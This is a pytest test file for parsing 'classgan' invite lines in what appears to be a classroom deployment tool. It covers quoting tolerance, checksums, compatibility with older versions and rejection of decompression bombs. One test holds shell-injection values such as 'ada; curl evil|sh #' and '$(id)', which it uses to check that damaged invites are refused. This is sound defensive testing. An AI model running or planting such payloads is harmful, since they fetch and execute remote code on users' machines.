"""An invite is one line; what mail programs do to it is forgiven, and what is missing is noticed."""

import base64
import json
import string
import zlib

import pytest
from systems import is_only_its_owners

from deployments.server.class_file import make
from deployments.student.invites import Invite
from deployments.student.join import join
from gan_core.errors import InviteError, StackError
from gan_core.store.logins import new_secret


@pytest.fixture
def invite(tmp_path):
    class_file = make(tmp_path, ("gan.example.edu",), "0.0.0.0", 4242, "")
    return class_file.invite(tmp_path, "ada", new_secret())


def test_an_invite_fits_into_an_e_mail_and_a_notebook_cell(invite):
    assert len(invite.line) < 400
    assert invite.line.replace(".", "").replace("-", "").replace("_", "").isalnum()  # no quoting in any shell
    assert Invite.parse(invite.line) == invite
    assert invite.command() == f"classgan join {invite.line}"


@pytest.mark.parametrize("spoil", ["  {}\n", "'{}'", '"{}"', "<{}>"])
def test_quotes_and_spaces_around_it_are_forgiven(invite, spoil):
    assert Invite.parse(spoil.format(invite.line)) == invite


def test_line_breaks_within_it_are_forgiven(invite):
    assert Invite.parse(f"{invite.line[:70]}\r\n  {invite.line[70:]}") == invite


def test_a_class_that_moved_is_found_with_the_old_invite(invite):
    moved = invite.moved("10.0.0.9")
    assert (moved.host, moved.pin) == ("10.0.0.9", invite.pin)
    assert invite.moved("") == invite


def test_an_invite_of_version_0_1_still_leads_into_the_class(invite):
    """It had three facts more, about a database that students no longer speak with."""
    facts = list(invite.model_dump().values())
    facts[2:2] = ["gan.example.edu", 5442, "classgan"]
    packed = zlib.compress(json.dumps(facts).encode())
    assert Invite.parse("classgan1." + base64.urlsafe_b64encode(packed).decode().rstrip("=")) == invite


@pytest.mark.parametrize("length", [20, 100, -1])
def test_a_line_cut_short_is_told_from_a_whole_one(invite, length):
    with pytest.raises(InviteError, match="Copy the whole line, to its very end"):
        Invite.parse(invite.line[:length])


def test_no_wrong_character_makes_another_invite_of_it(invite):
    """A few bits say nothing: those that fill the last byte before zlib's checksum."""
    line, noticed = invite.line, 0
    places = range(len("classgan2."), len(line))
    for place in places:
        try:
            assert Invite.parse(line[:place] + ("A" if line[place] != "A" else "B") + line[place + 1 :]) == invite
        except InviteError:
            noticed += 1
    assert noticed >= len(places) - 2


@pytest.mark.parametrize("login", ["a" * length for length in range(1, 9)])
def test_a_wrong_last_character_is_noticed_whatever_it_is(invite, login):
    """Of some lengths the last character carries six bits, of others four or two, with bits to spare."""
    line = invite.model_copy(update={"login": login}).line
    for other in set(string.ascii_letters + string.digits + "-_+/%") - {line[-1]}:
        with pytest.raises(InviteError):
            Invite.parse(line[:-1] + other)


@pytest.mark.parametrize("text", ["", "hello", "classgan9.abc", "https://example.edu"])
def test_something_else_is_told_from_an_invite(text):
    with pytest.raises(InviteError, match=r"An invite begins with 'classgan2\.'"):
        Invite.parse(text)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("login", "ada; curl evil|sh #"),
        ("classgan", "1'; curl evil|sh; '"),
        ("host", "x y"),
        ("port", 0),
        ("secret", "$(id)"),
    ],
)
def test_an_invite_from_a_stranger_holds_nothing_that_a_shell_would_run(invite, field, value):
    strange = Invite.model_construct(**{**invite.model_dump(), field: value})
    with pytest.raises(InviteError, match="damaged"):
        Invite.parse(strange.line)


def test_a_bomb_is_not_unpacked():
    bomb = base64.urlsafe_b64encode(zlib.compress(b"0" * 50_000_000)).decode()
    with pytest.raises(InviteError, match="damaged"):
        Invite.parse(f"classgan2.{bomb}")


def test_making_a_class_again_keeps_its_secrets(tmp_path):
    first = make(tmp_path, ("10.0.0.1",), "0.0.0.0", 4242, "")
    pin = first.invite(tmp_path, "ada", new_secret()).pin
    again = make(tmp_path, ("10.0.0.1", "gan.example.edu"), "0.0.0.0", 4243, "")
    assert (again.instructor_secret, again.inner_secret) == (first.instructor_secret, first.inner_secret)
    assert again.port == 4243
    assert again.invite(tmp_path, "ada", new_secret()).pin == pin


def test_the_class_file_is_for_the_instructor_only_and_a_damaged_one_is_named(tmp_path):
    class_file = make(tmp_path, ("10.0.0.1",), "0.0.0.0", 4242, "")
    path = tmp_path / "class.json"
    assert is_only_its_owners(path)
    path.write_text(path.read_text()[:-10])
    with pytest.raises(StackError, match=r"class\.json is damaged"):
        class_file.load(tmp_path)


@pytest.mark.parametrize("name", ["Lab PC 7/2", "100 %"])
def test_a_machine_cannot_have_a_name_that_prefect_refuses(invite, name):
    """Before anything is checked or written."""
    with pytest.raises(InviteError, match=r"A machine's name can't have [/%] in it: .* another one with --machine"):
        join(invite.line, name, "", start=False)
